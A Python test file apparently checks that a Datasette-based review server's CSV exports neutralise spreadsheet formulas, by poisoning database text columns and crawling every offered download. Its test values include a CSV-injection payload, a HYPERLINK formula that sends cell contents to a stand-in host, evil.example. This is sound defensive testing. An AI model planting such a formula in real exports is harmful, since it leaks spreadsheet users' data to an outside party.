"""Every CSV the review server offers is guarded against formulas, Datasette's own downloads too.

The test puts formula-like values into every text column of a real database, crawls the server's
pages for CSV links (and the "advanced export" forms), downloads each and looks at every cell.
"""

import asyncio
import csv
import io
import sqlite3
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlencode, urlsplit

import pytest
from datasette.app import Datasette
from reviewing import add_hostile_document, reviewer_accounts

from annotator import store
from annotator.export import FORMULA_START
from annotator.review import access, accounts, config, csv_guard
from annotator.store import sets

FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Click for sources")', "=2", "-2-3",
            "=alice", "@cue", "+1+1", "\t=1")


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [("=2", "'=2"), ("-2-3", "'-2-3"), ("@cue", "'@cue"), ("\t=1", "'\t=1"), ("-2", "-2"),
     ("+0.5", "+0.5"), ("1e-3", "1e-3"), ("'=2", "'=2"), ("plain", "plain"), ("", "")],
)
def test_guard_cell(cell, guarded):
    assert csv_guard.guard_cell(cell) == guarded


def test_a_record_cut_between_pieces_is_guarded_whole():
    text = 'id,note\r\n1,"=2\r\nsecond line, ""quoted"""\r\n2,@x\r\n3,é\r\n'.encode()
    guard = csv_guard.CsvGuard()
    out = b"".join(guard.feed(text[i:i + 1]) for i in range(len(text))) + guard.feed(b"", final=True)
    assert out.decode() == 'id,note\r\n1,"\'=2\r\nsecond line, ""quoted"""\r\n2,\'@x\r\n3,é\r\n'


def poison(path) -> int:
    """Formula-like values in every text column of every table (ids, links, JSON and checked
    columns kept), one row with a review, evidence and a claim set made of them; the columns changed."""
    db = store.connect(path)
    claim_id = db.execute("select id from claims where superseded = 0 order by id limit 1").fetchone()[0]
    store.add_review(db, claim_id, "=alice", verdict="false", note="=2")
    store.add_review(db, claim_id, "@bob", note="-2-3", cue="@cue", source='=HYPERLINK("x")')
    store.add_evidence(db, claim_id, "=alice", "https://example.org/=1", quote="=SUM(A1:A9)")
    sets.create_set(db, "=set", creator="=alice", description="+1+1", claim_ids=[claim_id])
    db.close()
    conn = sqlite3.connect(path)
    changed = 0
    tables = [r[0] for r in conn.execute(
        "select name from sqlite_master where type = 'table' and name not like 'sqlite%'"
        " and name not like '%fts%' and name not like '\\_%' escape '\\'")]
    for table in tables:
        links = {r[3] for r in conn.execute(f"pragma foreign_key_list([{table}])")}
        for _, column, kind, _, _, pk in conn.execute(f"pragma table_info([{table}])").fetchall():
            if kind.upper() != "TEXT" or pk or column in links or column.endswith("id"):
                continue
            if (table, column) in JSON_COLUMNS or conn.execute(
                    f"select 1 from [{table}] where json_valid([{column}])"
                    f" and substr([{column}], 1, 1) in ('[', '{{')").fetchone():
                continue  # JSON (a set's filters, a run's config): the code reads it as data
            value = FORMULAS[changed % len(FORMULAS)]
            if (table, column) == ("claim_sets", "name"):
                value = value.strip()  # as sets.create_set stores a name; a query string's is stripped
            try:
                with conn:
                    conn.execute(f"update [{table}] set [{column}] = ? where rowid % 2 = 0"
                                 f" or rowid = (select max(rowid) from [{table}])", [value])
                changed += 1
            except sqlite3.IntegrityError:  # a checked column (verdict, relation): no formula fits
                pass
    conn.close()
    return changed


JSON_COLUMNS = {("claim_sets", "filters"), ("sources", "aliases")}


class Links(HTMLParser):
    """The links of a page, and the query strings its GET forms can send."""

    def __init__(self):
        super().__init__()
        self.links: list[str] = []
        self.forms: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form" and (a.get("method") or "get").lower() == "get":
            self.forms.append((a.get("action") or "", []))
        elif tag == "input" and self.forms and a.get("name"):
            if a.get("type") == "checkbox":
                self.forms[-1][1].append((a["name"], a.get("value") or "on"))  # every box ticked
            elif a.get("type") not in ("submit", "button"):
                self.forms[-1][1].append((a["name"], a.get("value") or ""))


def is_csv(url: str) -> bool:
    parts = urlsplit(url)
    return parts.path.endswith(".csv") or ("_format", "csv") in parse_qsl(parts.query)


def crawl(get, start="/", max_pages=60) -> set[str]:
    """The CSV addresses offered by the site's pages: the home page, databases, tables, queries
    and the review plugin's pages (row pages and re-sorted or filtered tables are not visited)."""
    seen, queue, found = set(), [start], set()
    while queue and len(seen) < max_pages:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.add(url)
        response = get(url)
        if response.status_code != 200 or "text/html" not in response.headers.get("content-type", ""):
            continue
        page = Links()
        page.feed(response.text)
        offered = page.links + [action + ("?" + urlencode(args) if args else "")
                                for action, args in page.forms if action.endswith(".csv")]
        for link in offered:
            parts = urlsplit(link)
            if parts.netloc or not parts.path.startswith("/") or parts.path.startswith("/-/static"):
                continue
            local = parts.path + (f"?{parts.query}" if parts.query else "")
            if is_csv(local):
                found.add(local)
            elif not parts.query and (parts.path.count("/") <= 2 or parts.path.startswith("/-/annotator/")) \
                    and not parts.path.startswith(("/-/annotator/claim/", "/-/annotator/next")) \
                    and not parts.path.endswith((".json", ".db")):
                queue.append(local)
    return found


def unguarded(text: str) -> list[str]:
    return [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record
            if cell.startswith(FORMULA_START) and not csv_guard.NUMBER.fullmatch(cell)]


def test_every_csv_the_server_offers_is_guarded(small_copy, tmp_path):
    add_hostile_document(small_copy)
    assert poison(small_copy) >= 40
    reviewers = reviewer_accounts(tmp_path / "reviewers.json")
    meta = config.build_metadata("claims", reviewers, "me", private=True)
    # pages of 10 rows: the small database's tables are longer than a page, so Datasette offers
    # the streamed downloads of all rows (_stream=on) too
    ds = Datasette([str(small_copy)], metadata=meta,
                   settings={"facet_time_limit_ms": 1000, "default_page_size": 10})
    asyncio.run(ds.invoke_startup())
    alice = access.actor_for("alice", accounts.load(reviewers)["alice"])
    cookies = {"ds_actor": ds.sign({"a": alice}, "actor")}

    def get(url):
        return asyncio.run(ds.client.get(url, cookies=cookies))

    found = crawl(get)
    print(sorted(found))
    paths = {urlsplit(u).path for u in found}
    assert {"/claims/claims.csv", "/claims/claim_verdicts.csv", "/claims/reviews.csv",
            "/claims/evidence.csv", "/claims/claim_sets.csv", "/claims/unreviewed_checkworthy.csv",
            "/-/annotator/export.csv"} <= paths
    assert "/claims/claim_verdicts.csv?_dl=on&_stream=on&_size=max" in found
    guarded = 0
    for url in sorted(found):
        response = get(url)
        assert response.status_code == 200, url
        assert unguarded(response.text) == [], url
        guarded += response.text.count("'=") + response.text.count("'@")
    assert guarded > 100  # the formulas were there, and were guarded
